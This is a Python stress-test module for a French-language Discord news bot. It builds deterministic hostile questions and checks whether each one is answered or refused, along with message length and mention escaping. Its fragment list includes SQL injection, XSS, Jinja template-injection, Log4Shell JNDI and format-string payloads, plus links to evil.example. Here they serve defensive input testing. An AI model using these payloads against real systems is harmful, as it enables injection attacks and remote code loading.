"""Hostile questions: a deterministic generator, and a check that each is answered or refused."""

from __future__ import annotations

import random
import re
from collections.abc import Iterable
from pathlib import Path
from typing import TYPE_CHECKING

from bot.app.render import LIMIT
from bot.errors import KiosqueError
from bot.values import LOCAL

if TYPE_CHECKING:
    from bot.app.service import Kiosque

ARTICLE = Path(__file__).resolve().parent.parent / "articles" / "russie-coree-du-nord-alliance.txt"

# Combining marks stacked on each letter: the "zalgo" text pasted to break layouts.
_COMBINING = [chr(c) for c in range(0x0300, 0x0370)]


def zalgo(text: str, marks: int = 12, seed: int = 0) -> str:
    """``text`` with ``marks`` combining marks stacked on every character."""
    rng = random.Random(seed)
    return "".join(ch + "".join(rng.choices(_COMBINING, k=marks)) for ch in text)


FRAGMENTS: tuple[str, ...] = (
    # control characters, NUL, the renderer's own block separator, ANSI escapes
    "\x00",
    "\x01\x02\x03\x04",
    "\x07\x08\x1b[31mrouge\x1b[0m",
    "\x7f",
    "\x1e",
    "\x1c\x1d\x1f",
    "\x0b\x0c",
    "\u0085",
    "\u2028\u2029",
    # direction marks, zero-width and BOM
    "\u202e",
    "\u202eetiré\u202c",
    "\u200f",
    "\u200e",
    "\u200b\u200c\u200d",
    "\ufeff",
    "\u2066isolé\u2069",
    # combining marks and emoji
    zalgo("zalgo"),
    "e\u0301\u0301\u0301\u0301\u0301",
    "😀",
    "👨‍👩‍👧‍👦",
    "🇫🇷🇺🇦",
    "\U0001f4a9" * 20,
    # markdown and code fences
    "**gras**",
    "__souligné__",
    "*italique*",
    "~~barré~~",
    "||spoiler||",
    "`code`",
    "```py\nprint('x')\n```",
    "```",
    "> citation",
    ">>> bloc",
    "# Titre",
    "-# petit texte",
    "- puce",
    "1. liste",
    "\\*échappé\\*",
    "\\",
    "\\\\<@123>",
    # mentions, channel and emoji references, timestamps
    "@everyone",
    "@here",
    "@EVERYONE",
    "@every\x00one",
    "@\x1eeveryone",
    "@\u200beveryone",
    "<@&123>",
    "<@123>",
    "<@!123>",
    "<@\x00123>",
    "<#123>",
    "<:kiosque:123>",
    "<a:danse:123>",
    "<t:1700000000:R>",
    "</ask:123>",
    # links
    "https://evil.example/phish",
    "[cliquez ici](https://evil.example/)",
    "<https://evil.example>",
    "discord.gg/invite",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    # SQL fragments
    "'); DROP TABLE turns;--",
    "' OR 1=1 --",
    '"; DELETE FROM articles; --',
    "%' UNION SELECT * FROM versions --",
    # template and format syntax
    "{{ 7*7 }}",
    "{% for %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ br }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# commentaire #}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{0.__class__}",
)

QUESTIONS: tuple[str, ...] = (
    "Qui a ratifié le traité ?",
    "Que craint l’Ukraine ?",
    "Quelle est la position américaine ?",
    "Quand le conflit ukrainien a-t-il commencé ?",
    "Qui est Antony Blinken ?",
    "Et pourquoi est-ce important ?",
    "What does the treaty commit the two countries to?",
)

_SEPARATORS = (" ", "", "\n", "\t", " \u200b ", "\r\n")


def french_words(path: Path = ARTICLE) -> list[str]:
    """Distinct words of four letters or more from the bundled article, sorted."""
    return sorted({w for w in re.findall(r"\w+", path.read_text(encoding="utf-8")) if len(w) > 3})


def _fixed(limit: int = 500) -> list[str]:
    # The cases every run covers, whatever its size: each fragment alone, blanks, the length
    # limit on both sides, and pasted novels of 100 KB.
    kilo = 100 * 1024
    near = "Qui a ratifié le traité " + "@everyone <@123> "
    return [
        *FRAGMENTS,
        *QUESTIONS,
        "",
        " ",
        "\n\t \r\n",
        "\u200b",
        "\x00" * 50,
        (near * 40)[: limit - 1] + "?",
        (near * 40)[:limit] + "?",
        "a" * limit,
        "a" * (limit + 1),
        "@everyone " * (limit // 10 + 1),
        "<@&123>" * 200,
        "a" * kilo,
        ("Qui a ratifié le traité ? @everyone " * 3000)[:kilo],
        zalgo("Corée du Nord ", marks=40) * 200,
        "".join(FRAGMENTS) * 3,
        "```" + "x" * 3000 + "```",
    ]


def hostile_strings(count: int, seed: int = 0) -> list[str]:
    """``count`` nasty questions, the same for the same ``seed``; some have real answers."""
    rng = random.Random(seed)
    words = french_words()
    fixed = _fixed()
    out = fixed[:count]
    while len(out) < count:
        parts = rng.choices(FRAGMENTS, k=rng.randint(1, 6))
        parts += rng.choices(words, k=rng.randint(0, 6))
        if rng.random() < 0.3:
            parts.append(rng.choice(QUESTIONS))
        rng.shuffle(parts)
        text = "".join(p + rng.choice(_SEPARATORS) for p in parts)
        roll = rng.random()
        if roll < 0.08:  # around the length limit
            text = (text * (700 // max(1, len(text)) + 1))[: rng.randint(400, 700)]
        elif roll < 0.085:  # a pasted novel
            text = (text * (102_400 // max(1, len(text)) + 1))[:102_400]
        out.append(text)
    return out


_LIVE_MENTION = re.compile(r"<@[!&]?\d+>")
_MASS_MENTION = re.compile(r"@(everyone|here)", re.IGNORECASE)


def live_mentions(text: str) -> list[str]:
    """User and role mentions Discord would turn into pings (not preceded by an escape)."""
    found = []
    for match in _LIVE_MENTION.finditer(text):
        start = match.start()
        slashes = len(text[:start]) - len(text[:start].rstrip("\\"))
        if slashes % 2 == 0:
            found.append(match.group())
    return found


def message_problems(message: str) -> list[str]:
    """What is wrong with one message Discord would receive (empty list: nothing)."""
    problems = []
    if len(message) > LIMIT:
        problems.append(f"message of {len(message)} characters")
    if _MASS_MENTION.search(message):
        problems.append("raw @everyone/@here")
    if mentions := live_mentions(message):
        problems.append(f"live mention {mentions[0]}")
    return problems


def expected_refusal(question: str, limit: int) -> str | None:
    """The refusal code the service must give ``question``, or None if it must answer."""
    normal = " ".join(question.replace("\x00", " ").split())  # NUL reads as a space
    if not normal:
        return "empty_question"
    if len(normal) > limit:
        return "too_long"
    return None


async def check_questions(kiosque: Kiosque, questions: Iterable[str]) -> tuple[int, list[str]]:
    """Ask and render each question; return how many were tried and what went wrong."""
    tried = 0
    failures: list[str] = []
    limit = kiosque.settings.max_question_chars
    for number, question in enumerate(questions):
        tried += 1
        label = f"#{number} {question[:60]!r}"
        expected = expected_refusal(question, limit)
        try:
            answer = await kiosque.ask(
                LOCAL, question, channel=f"stress-{number % 7}", author="stress"
            )
            messages = kiosque.renderer.reply(answer)
        except KiosqueError as error:
            messages = [kiosque.error_text(error)]
            if error.code != expected:
                failures.append(f"{label}: refused with {error.code}, expected {expected}")
        except Exception as error:
            failures.append(f"{label}: {type(error).__name__}: {error}")
            continue
        else:
            if expected is not None:
                failures.append(f"{label}: answered, expected refusal {expected}")
        if not messages:
            failures.append(f"{label}: nothing rendered")
        for message in messages:
            failures.extend(f"{label}: {problem}" for problem in message_problems(message))
    return tried, failures
